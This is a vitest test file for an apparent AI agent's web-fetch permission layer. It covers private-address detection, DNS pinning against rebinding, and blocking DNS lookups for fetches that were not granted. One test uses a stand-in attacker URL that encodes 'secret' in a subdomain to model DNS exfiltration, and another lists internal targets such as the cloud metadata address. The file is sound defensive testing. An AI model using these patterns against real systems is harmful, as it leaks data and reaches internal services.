import { lookup } from 'node:dns/promises';
import { describe, expect, it, vi } from 'vitest';
import { createPermissionPolicy } from '../permissions/create-permission-policy.js';
import { parseRuleList } from '../permissions/permission-rule.js';
import { callThroughPolicy, outputText, testToolContext } from '../testing/tool-context.js';
import { useWebServers } from '../testing/web-server.js';
import { isPublicAddress, pinnedLookup, resolveDestination } from './web-destination.js';
import { webFetchTool } from './web-fetch.js';

// DNS answers this file controls: `rebind.test` is what the tests say it is at each lookup.
vi.mock('node:dns/promises', async (original) => {
  const real = await original<typeof import('node:dns/promises')>();
  return { ...real, lookup: vi.fn(real.lookup) };
});
const dnsLookup = vi.mocked(lookup) as unknown as ReturnType<typeof vi.fn>;

const startServer = useWebServers();

describe('which addresses count as private', () => {
  it('treats loopback, private ranges, link-local, unique-local and the like as private', () => {
    for (const address of [
      '127.0.0.1',
      '10.0.0.8',
      '172.16.4.1',
      '192.168.1.1',
      '169.254.169.254',
      '100.64.0.1',
      '0.0.0.0',
      '::1',
      '::',
      'fe80::1',
      'fd12::1',
      '::ffff:127.0.0.1',
      '::ffff:10.0.0.1',
      '64:ff9b::a00:1',
      '224.0.0.1',
    ]) {
      expect(isPublicAddress(address), address).toBe(false);
    }
  });

  it('treats public unicast as public, an IPv4-mapped one included', () => {
    for (const address of ['93.184.215.14', '2606:4700::1111', '::ffff:93.184.215.14']) {
      expect(isPublicAddress(address), address).toBe(true);
    }
  });

  it('finds every address of a host name and calls the host private if any is', async () => {
    dnsLookup.mockResolvedValueOnce([
      { address: '93.184.215.14', family: 4 },
      { address: '10.0.0.5', family: 4 },
    ]);
    expect(await resolveDestination(new URL('https://mixed.test/'))).toEqual({
      host: 'mixed.test',
      addresses: [
        { address: '93.184.215.14', family: 4 },
        { address: '10.0.0.5', family: 4 },
      ],
      isPrivate: true,
      privateAddress: '10.0.0.5',
    });
  });

  it('says when a host does not resolve', async () => {
    dnsLookup.mockRejectedValueOnce(Object.assign(new Error('nope'), { code: 'ENOTFOUND' }));
    expect(await resolveDestination(new URL('https://missing.test/'))).toEqual({
      host: 'missing.test',
      error: 'could not resolve missing.test (ENOTFOUND)',
    });
  });
});

describe('a pinned lookup', () => {
  const pinned = pinnedLookup([
    { address: '127.0.0.1', family: 4 },
    { address: '::1', family: 6 },
  ]);

  it('answers with the addresses resolved before, in both forms node asks for', () => {
    const one = vi.fn();
    pinned('any.test', { family: 6 }, one);
    expect(one).toHaveBeenCalledWith(null, '::1', 6);
    const all = vi.fn();
    pinned('any.test', { all: true }, all);
    expect(all).toHaveBeenCalledWith(null, [
      { address: '127.0.0.1', family: 4 },
      { address: '::1', family: 6 },
    ]);
  });
});

describe('WebFetch and DNS', () => {
  const policy = (rules: string) =>
    createPermissionPolicy({
      mode: 'default',
      allow: parseRuleList(rules, '--allowed-tools'),
    });
  const fetchAs = (rules: string, url: string) =>
    callThroughPolicy(webFetchTool, { url }, policy(rules), testToolContext());

  it('asks DNS nothing for a fetch that is not allowed: a looked-up name can carry data out', async () => {
    dnsLookup.mockClear();
    const result = await fetchAs('', 'http://c2VjcmV0.attacker.test/');
    expect(outputText(result)).toMatch(
      /WebFetch\(domain:c2vjcmv0\.attacker\.test\) was not granted/,
    );
    expect(dnsLookup).not.toHaveBeenCalled();
  });

  it('asks again under private: when an allowed name resolves to a private address', async () => {
    const server = await startServer((_req, res) => res.end('internal page'));
    const url = `http://intranet.test:${server.port}/`;
    dnsLookup.mockResolvedValue([{ address: '127.0.0.1', family: 4 }]);
    const denied = await fetchAs('WebFetch(domain:intranet.test)', url);
    expect(outputText(denied)).toBe(
      'intranet.test resolves to the private address 127.0.0.1. Permission to use WebFetch(private:intranet.test) was not granted. To allow it, rerun with --allowed-tools "WebFetch(private:intranet.test)", or --permission-mode bypassPermissions.',
    );
    expect(server.requests).toEqual([]);
    const allowed = await fetchAs(
      'WebFetch(domain:intranet.test),WebFetch(private:intranet.test)',
      url,
    );
    expect(outputText(allowed)).toContain('internal page');
    dnsLookup.mockReset();
  });

  it('fetches from the addresses it checked, however DNS answers later (rebinding)', async () => {
    const checked = await startServer((_req, res) => res.end('the checked server'), '127.0.0.1');
    const other = await startServer((_req, res) => res.end('the other server'), '127.0.0.2');
    // The first answer is the one checked; any later lookup would point elsewhere.
    dnsLookup.mockReset();
    dnsLookup.mockResolvedValueOnce([{ address: '127.0.0.1', family: 4 }]);
    dnsLookup.mockResolvedValue([{ address: '127.0.0.2', family: 4 }]);
    const server = (path: string) => `http://rebind.test:${checked.port}${path}`;
    const result = await fetchAs(
      'WebFetch(domain:rebind.test),WebFetch(private:rebind.test)',
      server('/'),
    );
    expect(outputText(result)).toContain('the checked server');
    expect(dnsLookup).toHaveBeenCalledTimes(1);
    expect(checked.requests).toEqual([{ path: '/', host: `rebind.test:${checked.port}` }]);
    expect(other.requests).toEqual([]);
    dnsLookup.mockReset();
  });
});
